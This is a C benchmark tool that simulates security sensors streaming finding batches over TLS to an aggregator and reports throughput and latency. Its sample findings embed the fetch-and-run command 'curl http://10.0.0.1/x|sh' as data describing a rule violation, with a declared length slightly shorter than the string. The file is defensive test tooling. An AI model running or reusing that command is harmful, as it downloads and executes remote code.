// SPDX-License-Identifier: Apache-2.0
/* aggload.c: load generator for wacht-aggregator: N simulated sensors, one
 * epoll loop, each a TLS connection that says hello and streams FindingBatch
 * frames, either as fast as acknowledgements allow (a window of batches in
 * flight) or at a fixed total rate with the sensor's batching (cut at
 * --batch findings or 200 ms), measuring for each finding the time from
 * its creation to the ack of its batch (= stored, committed).
 *
 * Usage: aggload --connect HOST:PORT --ca F --cert F --key F [--plaintext]
 *        [--sensors 100] [--seconds 20] [--warmup 3] [--batch 512]
 *        [--window 4] [--rate FINDINGS_PER_S]
 * Prints one line: key=value pairs (findings acked per second during the
 * measured seconds, latency percentiles in ms in rate mode).
 */
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <inttypes.h>
#include <netdb.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/epoll.h>
#include <sys/socket.h>

#include "bytebuf.h"
#include "endpoint.h"
#include "tls.h"
#include "wire.h"

#define BATCH_MS 200
#define MAX_INFLIGHT 64

struct sim {
	int i;
	struct tls_conn *c;
	struct wire_reader *r;
	struct bytebuf out;
	bool hello_done, established;
	uint64_t next_seq;
	/* batches sent, not yet acked: seq, count, and (rate mode) the
	 * creation times of their findings */
	uint64_t fl_seq[MAX_INFLIGHT];
	size_t fl_n[MAX_INFLIGHT];
	uint64_t *fl_created[MAX_INFLIGHT];
	unsigned fl_head, fl_count;
	/* rate mode: findings created and not yet in a sent batch */
	uint64_t *pend;
	size_t npend, cap_pend;
	uint64_t next_create_ns;
	uint64_t fid;
	char sensor_id[64];
};

static struct {
	const char *connect;
	struct tls_config tls;
	int sensors, seconds, warmup, batch, window;
	double rate;
} opt = { .sensors = 100, .seconds = 20, .warmup = 3, .batch = 512, .window = 4 };

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ULL + (uint64_t)ts.tv_nsec;
}

static uint64_t acked_total, acked_measured;
static uint64_t *lat;
static size_t nlat, cap_lat;
static bool measuring;

static void die(const char *what)
{
	fprintf(stderr, "aggload: %s\n", what);
	exit(1);
}

/* One batch of n findings, ids "<sensor_id>:<fid>", realistic contents. */
static void queue_batch(struct sim *s, size_t n)
{
	Wacht__V1__Envelope env;
	Wacht__V1__FindingBatch b = WACHT__V1__FINDING_BATCH__INIT;
	Wacht__V1__Finding *fs = calloc(n, sizeof(*fs)), **fp = calloc(n, sizeof(*fp));
	Wacht__V1__Rule rule = WACHT__V1__RULE__INIT;
	Wacht__V1__Container ct = WACHT__V1__CONTAINER__INIT;
	Wacht__V1__Process *ps = calloc(n, sizeof(*ps));
	ProtobufCBinaryData args[3];
	char (*ids)[80] = calloc(n, 80), (*msgs)[96] = calloc(n, 96);
	uint8_t *frame;
	size_t len;
	struct timespec rt;

	if (!fs || !fp || !ps || !ids || !msgs)
		die("out of memory");
	clock_gettime(CLOCK_REALTIME, &rt);
	rule.id = "rules/shop.yaml:42";
	rule.name = "no-shells";
	rule.group = "nv.web.shop";
	ct.id = "3f1c0a9e8b7d6c5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a1f";
	ct.name = "web";
	ct.image = "registry.example/shop/web:1.42.0";
	ct.pod = "web-7d9f8c6b5-x2x7k";
	ct.namespace_ = "shop";
	ct.group = "nv.web.shop";
	args[0] = (ProtobufCBinaryData){ 2, (uint8_t *)"sh" };
	args[1] = (ProtobufCBinaryData){ 2, (uint8_t *)"-c" };
	args[2] = (ProtobufCBinaryData){ 24, (uint8_t *)"curl http://10.0.0.1/x|sh" };
	for (size_t i = 0; i < n; i++) {
		wacht__v1__finding__init(&fs[i]);
		wacht__v1__process__init(&ps[i]);
		snprintf(ids[i], 80, "%s:%" PRIu64, s->sensor_id, ++s->fid);
		/* distinct messages: every finding is a new row, no merging */
		snprintf(msgs[i], 96, "sh (/bin/busybox): not in the process profile #%" PRIu64, s->fid);
		fs[i].id = ids[i];
		fs[i].time_unix_ns = (int64_t)rt.tv_sec * 1000000000LL + rt.tv_nsec;
		fs[i].node = s->sensor_id;
		fs[i].name = "Process.Profile.Violation";
		fs[i].severity = WACHT__V1__SEVERITY__SEVERITY_HIGH;
		fs[i].action = WACHT__V1__ACTION__ACTION_ALERT;
		fs[i].mode = WACHT__V1__MODE__MODE_MONITOR;
		fs[i].rule = &rule;
		fs[i].container = &ct;
		ps[i].pid = 1000 + (uint32_t)(s->fid % 30000);
		ps[i].ppid = 1;
		ps[i].name = (ProtobufCBinaryData){ 2, (uint8_t *)"sh" };
		ps[i].exe = (ProtobufCBinaryData){ 12, (uint8_t *)"/bin/busybox" };
		ps[i].parent_exe = (ProtobufCBinaryData){ 14, (uint8_t *)"/usr/bin/nginx" };
		ps[i].args = args;
		ps[i].n_args = 3;
		fs[i].process = &ps[i];
		fs[i].message = (ProtobufCBinaryData){ strlen(msgs[i]), (uint8_t *)msgs[i] };
		fs[i].count = 1;
		fp[i] = &fs[i];
	}
	wire_envelope_init(&env);
	b.batch_seq = ++s->next_seq;
	b.findings = fp;
	b.n_findings = n;
	env.body_case = WACHT__V1__ENVELOPE__BODY_FINDINGS;
	env.findings = &b;
	if (wire_frame_envelope(&env, &frame, &len) || bytebuf_append(&s->out, frame, len))
		die("failed to frame a batch");
	free(frame);
	unsigned slot = (s->fl_head + s->fl_count) % MAX_INFLIGHT;
	s->fl_seq[slot] = b.batch_seq;
	s->fl_n[slot] = n;
	s->fl_created[slot] = NULL;
	if (opt.rate > 0) {
		s->fl_created[slot] = malloc(n * sizeof(uint64_t));
		memcpy(s->fl_created[slot], s->pend, n * sizeof(uint64_t));
		memmove(s->pend, s->pend + n, (s->npend - n) * sizeof(uint64_t));
		s->npend -= n;
	}
	s->fl_count++;
	free(fs);
	free(fp);
	free(ps);
	free(ids);
	free(msgs);
}

static void send_hello(struct sim *s)
{
	Wacht__V1__Envelope env;
	Wacht__V1__SensorHello h = WACHT__V1__SENSOR_HELLO__INIT;
	uint8_t *frame;
	size_t len;

	wire_envelope_init(&env);
	h.node = s->sensor_id;
	h.sensor_id = s->sensor_id;
	h.sensor_version = "aggload";
	env.body_case = WACHT__V1__ENVELOPE__BODY_HELLO;
	env.hello = &h;
	if (wire_frame_envelope(&env, &frame, &len) || bytebuf_append(&s->out, frame, len))
		die("failed to frame the hello");
	free(frame);
}

static void on_ack(struct sim *s, uint64_t seq, uint64_t now)
{
	while (s->fl_count && s->fl_seq[s->fl_head] <= seq) {
		unsigned h = s->fl_head;

		acked_total += s->fl_n[h];
		if (measuring) {
			acked_measured += s->fl_n[h];
			for (size_t i = 0; s->fl_created[h] && i < s->fl_n[h]; i++) {
				if (nlat == cap_lat) {
					cap_lat = cap_lat ? cap_lat * 2 : 1 << 20;
					lat = realloc(lat, cap_lat * sizeof(*lat));
					if (!lat)
						die("out of memory");
				}
				lat[nlat++] = now - s->fl_created[h][i];
			}
		}
		free(s->fl_created[h]);
		s->fl_created[h] = NULL;
		s->fl_head = (h + 1) % MAX_INFLIGHT;
		s->fl_count--;
	}
}

/* Rate mode: create the findings due by now; cut batches as the sensor
 * does (full, or the oldest pending is BATCH_MS old). */
static void produce(struct sim *s, uint64_t now)
{
	double per_sensor = opt.rate / opt.sensors;
	uint64_t gap = (uint64_t)(1e9 / per_sensor);

	if (!s->next_create_ns)
		s->next_create_ns = now + (uint64_t)(rand() % (int)(gap > 1 ? gap : 1));
	while (s->next_create_ns <= now) {
		if (s->npend == s->cap_pend) {
			s->cap_pend = s->cap_pend ? s->cap_pend * 2 : 1024;
			s->pend = realloc(s->pend, s->cap_pend * sizeof(uint64_t));
			if (!s->pend)
				die("out of memory");
		}
		s->pend[s->npend++] = s->next_create_ns;
		s->next_create_ns += gap;
	}
	while (s->fl_count < (unsigned)opt.window && s->npend &&
	       (s->npend >= (size_t)opt.batch || now - s->pend[0] >= BATCH_MS * 1000000ULL))
		queue_batch(s, s->npend < (size_t)opt.batch ? s->npend : (size_t)opt.batch);
}

static void io(struct sim *s, int epfd, uint64_t now)
{
	uint8_t buf[65536];

	if (!s->established) {
		int rc = tls_conn__handshake(s->c);

		if (rc == -EAGAIN)
			goto events;
		if (rc < 0) {
			fprintf(stderr, "aggload: sensor %d: %s\n", s->i, tls_conn__error(s->c));
			exit(1);
		}
		s->established = true;
		send_hello(s);
	}
	for (;;) {
		ssize_t n = tls_conn__read(s->c, buf, sizeof(buf));
		Wacht__V1__Envelope *env;

		if (n == -EAGAIN)
			break;
		if (n <= 0) {
			fprintf(stderr, "aggload: sensor %d: connection ended: %s\n", s->i,
				n == 0 ? "closed by the aggregator" : tls_conn__error(s->c));
			exit(1);
		}
		if (wire_reader__feed(s->r, buf, (size_t)n))
			die("bad frames from the aggregator");
		while (wire_reader__next(s->r, &env) == 1) {
			if (env->body_case == WACHT__V1__ENVELOPE__BODY_SERVER_HELLO)
				s->hello_done = true;
			else if (env->body_case == WACHT__V1__ENVELOPE__BODY_ACK)
				on_ack(s, env->ack->batch_seq, now);
			wire_envelope_free(env);
		}
	}
	if (s->hello_done) {
		if (opt.rate > 0)
			produce(s, now);
		else
			while (s->fl_count < (unsigned)opt.window)
				queue_batch(s, (size_t)opt.batch);
	}
	while (bytebuf_size(&s->out)) {
		ssize_t n = tls_conn__write(s->c, bytebuf_head(&s->out), bytebuf_size(&s->out));

		if (n == -EAGAIN)
			break;
		if (n < 0) {
			fprintf(stderr, "aggload: sensor %d: %s\n", s->i, tls_conn__error(s->c));
			exit(1);
		}
		bytebuf_consume(&s->out, (size_t)n);
	}
events:;
	struct epoll_event ee = { .events = EPOLLIN, .data.ptr = s };
	if (bytebuf_size(&s->out) || tls_conn__want(s->c) == EPOLLOUT)
		ee.events |= EPOLLOUT;
	epoll_ctl(epfd, EPOLL_CTL_MOD, tls_conn__fd(s->c), &ee);
}

static int fcntl_nonblock(int fd)
{
	int fl = fcntl(fd, F_GETFL);

	return fl < 0 || fcntl(fd, F_SETFL, fl | O_NONBLOCK) < 0 ? -1 : 0;
}

static int cmp_u64(const void *a, const void *b)
{
	uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;
	return x < y ? -1 : x > y;
}

int main(int argc, char **argv)
{
	static const struct option lo[] = {
		{ "connect", required_argument, NULL, 'c' }, { "ca", required_argument, NULL, 'A' },
		{ "cert", required_argument, NULL, 'C' }, { "key", required_argument, NULL, 'K' },
		{ "plaintext", no_argument, NULL, 'P' }, { "sensors", required_argument, NULL, 'n' },
		{ "seconds", required_argument, NULL, 's' }, { "warmup", required_argument, NULL, 'w' },
		{ "batch", required_argument, NULL, 'b' }, { "window", required_argument, NULL, 'W' },
		{ "rate", required_argument, NULL, 'r' }, { 0 },
	};
	char host[256], port[16], *err = NULL;
	struct addrinfo hints = { .ai_socktype = SOCK_STREAM }, *ai;
	struct tls_ctx *ctx;
	struct sim *sims;
	int c, epfd;

	while ((c = getopt_long(argc, argv, "", lo, NULL)) != -1) {
		switch (c) {
		case 'c': opt.connect = optarg; break;
		case 'A': opt.tls.ca = optarg; break;
		case 'C': opt.tls.cert = optarg; break;
		case 'K': opt.tls.key = optarg; break;
		case 'P': opt.tls.plaintext = true; break;
		case 'n': opt.sensors = atoi(optarg); break;
		case 's': opt.seconds = atoi(optarg); break;
		case 'w': opt.warmup = atoi(optarg); break;
		case 'b': opt.batch = atoi(optarg); break;
		case 'W': opt.window = atoi(optarg); break;
		case 'r': opt.rate = atof(optarg); break;
		default: die("bad option (see the top of bench/aggload.c)");
		}
	}
	if (!opt.connect || endpoint_split(opt.connect, host, sizeof(host), port, sizeof(port)) ||
	    opt.sensors < 1 || opt.batch < 1 || opt.window < 1 || opt.window > MAX_INFLIGHT)
		die("need --connect HOST:PORT; --sensors, --batch >= 1; --window 1..64");
	signal(SIGPIPE, SIG_IGN);
	ctx = tls_ctx__new(&opt.tls, false, &err);
	if (!ctx)
		die(err ? err : "tls context");
	if (getaddrinfo(host, port, &hints, &ai))
		die("cannot resolve --connect");
	epfd = epoll_create1(EPOLL_CLOEXEC);
	sims = calloc((size_t)opt.sensors, sizeof(*sims));
	srand((unsigned)getpid());
	for (int i = 0; i < opt.sensors; i++) {
		struct sim *s = &sims[i];
		int fd = socket(ai->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1;

		if (fd < 0 || connect(fd, ai->ai_addr, ai->ai_addrlen))
			die("cannot connect to the aggregator");
		setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
		/* non-blocking once connected */
		if (fcntl_nonblock(fd))
			die("fcntl");
		s->i = i;
		snprintf(s->sensor_id, sizeof(s->sensor_id), "bench-%d-%d", (int)getpid(), i);
		s->c = tls_conn__new(ctx, fd, host);
		s->r = wire_reader__new(0);
		struct epoll_event ee = { .events = EPOLLIN | EPOLLOUT, .data.ptr = s };
		epoll_ctl(epfd, EPOLL_CTL_ADD, fd, &ee);
	}
	freeaddrinfo(ai);

	uint64_t t0 = now_ns(), tm = t0 + (uint64_t)opt.warmup * 1000000000ULL,
		 tend = tm + (uint64_t)opt.seconds * 1000000000ULL, last_tick = 0;
	while (1) {
		struct epoll_event evs[128];
		int n = epoll_wait(epfd, evs, 128, opt.rate > 0 ? 5 : 100);
		uint64_t now = now_ns();

		if (!measuring && now >= tm)
			measuring = true;
		if (now >= tend)
			break;
		for (int i = 0; i < n; i++)
			io(evs[i].data.ptr, epfd, now);
		/* rate mode: findings are created by the clock, not by acks */
		if (opt.rate > 0 && now - last_tick >= 5000000ULL) {
			for (int i = 0; i < opt.sensors; i++)
				if (sims[i].hello_done)
					io(&sims[i], epfd, now);
			last_tick = now;
		}
	}
	printf("sensors=%d batch=%d window=%d rate_target=%.0f seconds=%d acked=%" PRIu64
	       " findings_per_s=%.0f", opt.sensors, opt.batch, opt.window, opt.rate, opt.seconds,
	       acked_measured, acked_measured / (double)opt.seconds);
	if (nlat) {
		qsort(lat, nlat, sizeof(*lat), cmp_u64);
		printf(" latency_p50_ms=%.1f latency_p99_ms=%.1f latency_max_ms=%.1f",
		       lat[nlat / 2] / 1e6, lat[(size_t)(nlat * 0.99)] / 1e6, lat[nlat - 1] / 1e6);
	}
	printf(" acked_total=%" PRIu64 "\n", acked_total);
	return 0;
}
